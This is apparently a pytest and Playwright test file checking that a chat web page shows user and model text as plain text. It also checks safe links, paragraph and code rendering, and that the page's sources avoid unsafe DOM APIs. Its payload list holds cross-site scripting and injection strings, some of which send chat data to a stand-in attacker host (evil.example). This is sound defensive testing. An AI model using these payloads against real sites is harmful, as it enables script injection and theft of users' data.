"""Text on the page is only text: nothing that anybody writes becomes markup or a request."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from .conftest import Chat
from .fake_server import PAGE, POLICY, Answer, FakeServer

PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>press</a>",
    "[press](javascript:window.pwned=1)",
    "![picture](https://evil.example/leak?chat=secret)",
    "[ref]: https://evil.example/leak\n![x][ref]",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    'https://a.example/"onmouseover="window.pwned=1',
    "https://a.example/'onmouseover='window.pwned=1",
    "`<img src=x onerror=window.pwned=1>`",
    "```html\n<img src=x onerror=window.pwned=1>\n```",
    "```<script>window.pwned=1</script>\nx",
    "</textarea><script>window.pwned = 1</script>",
    "</div></article><style>body{display:none}</style>",
    "$\\href{javascript:window.pwned=1}{x}$",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.pwned=1>]\n```",
    "{{constructor.constructor('window.pwned=1')()}}",
    "<form action=https://evil.example><input autofocus onfocus=window.pwned=1></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\u202ehttps://evil.example\u202c <b>x</b>",
    "{seed} {first} __proto__ constructor",
]
ALLOWED_TAGS = {"P", "PRE", "CODE", "A"}


@pytest.mark.parametrize("writer", ["person", "model"])
def test_payloads_stay_text(chat: Chat, fake: FakeServer, writer: str) -> None:
    fake.context_length = 100_000
    chat.reload()
    fake.characters_per_token = 100
    for payload in PAYLOADS:
        fake.script.append(Answer(list(payload) if writer == "model" else ["Well."]))
        chat.ask("Hello" if writer == "model" else payload)
    written = chat.answers if writer == "model" else chat.questions
    assert written.count() == len(PAYLOADS)
    for index, payload in enumerate(PAYLOADS):
        words = re.sub(r"```\w*|[`\s]", "", payload)
        shown = re.sub(
            r"\s", "", written.nth(index).locator(".text").evaluate("e => e.textContent")
        )
        if not payload.startswith("```<"):  # the line that opens a fence is not shown
            assert shown == words
    tags = chat.page.evaluate("[...document.querySelectorAll('.text *')].map((e) => e.tagName)")
    addresses = chat.page.evaluate("[...document.querySelectorAll('.text a')].map((a) => a.href)")
    chat.page.locator("body").hover()
    assert set(tags) <= ALLOWED_TAGS
    assert all(re.match("https?://", address) for address in addresses)
    assert chat.page.evaluate("window.pwned") is None
    assert set(chat.visited) == {fake.url.rstrip("/")}
    assert chat.complaints == []


def test_payload_in_a_suggestion_and_in_the_store_stays_text(chat: Chat, fake: FakeServer) -> None:
    payload = "<img src=x onerror='window.pwned = 1'>"
    message = {"status": "done", "content": payload, "correction": payload, "error": payload}
    message |= {"responseId": payload, "finish": payload, "timing": {"first": payload, "rate": 1}}
    roles = [{"role": "user", **message}, {"role": "assistant", **message}]
    chat.store("chat", {"messages": [*roles, {**roles[0], "status": "failed"}]})
    chat.reload()
    expect(chat.answers.last.locator(".suggestion p")).to_have_text(payload)
    expect(chat.page.locator("#log img")).to_have_count(0)
    assert chat.page.evaluate("window.pwned") is None
    assert chat.complaints == []


def test_model_name_stays_text(chat: Chat, fake: FakeServer) -> None:
    fake.weights = "<b>x</b>"
    chat.reload()
    expect(chat.page.locator("#fact-weights")).to_have_text("<b>x</b>")


def test_links_are_plain_and_open_apart(chat: Chat, fake: FakeServer) -> None:
    fake.script.append(Answer(["See (https://example.org/a_b?c=1). 见 http://例子.测试/页。"]))
    chat.ask("Where?")
    links = chat.answers.last.locator(".text a")
    expect(links).to_have_count(2)
    assert links.first.inner_text() == "https://example.org/a_b?c=1"
    assert links.first.get_attribute("rel") == "noopener noreferrer nofollow"
    assert links.first.get_attribute("target") == "_blank"
    assert links.last.inner_text() == "http://例子.测试/页"


def test_paragraphs_lines_and_code_are_shown_as_written(chat: Chat, fake: FakeServer) -> None:
    fake.script.append(Answer(["one\ntwo\n\nthree `x  y`\n```py\na = 1\n\nb", " = 2\n```\nfour"]))
    chat.ask("How?")
    text = chat.answers.last.locator(".text")
    assert text.evaluate("e => [...e.children].map((c) => [c.tagName, c.textContent])") == [
        ["P", "one\ntwo"],
        ["P", "three x  y"],
        ["PRE", "a = 1\n\nb = 2"],
        ["P", "four"],
    ]
    assert text.locator("p").first.evaluate("p => getComputedStyle(p).whiteSpace") == "pre-wrap"


def test_text_of_a_hundred_thousand_marks_is_shown_in_time(chat: Chat) -> None:
    took = chat.page.evaluate(
        """async () => {
          const { showText } = await import("/text.js");
          const began = performance.now();
          for (const piece of ["`", "https://", "```\\n", "[", "\\n\\n", "(", "a", "`a\\n"]) {
            const text = "https://a" + piece.repeat(100_000 / piece.length) + "b";
            showText(document.createElement("div"), text, { codeLabel: "" });
          }
          return performance.now() - began;
        }"""
    )
    assert took < 5000


def test_sources_hold_no_markup_strings_no_inline_code_and_no_foreign_address() -> None:
    sources = {path.name: path.read_text("utf-8") for path in PAGE.iterdir()}
    assert "default-src 'self'" in POLICY
    for name, source in sources.items():
        assert len(source.splitlines()) <= 400, name
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write", source), (
            name
        )
        assert not re.search(r"\beval\(|new Function|import\(", source), name
        addresses = set(re.findall(r"https?://[\w.]+", source))
        assert addresses <= {"http://www.w3.org"}, name
    page = sources["index.html"]
    assert not re.search(r"\sstyle=|\son\w+=|<style|javascript:|data:[a-z]", page)
    assert all("src=" in tag for tag in re.findall(r"<script[^>]*>", page))
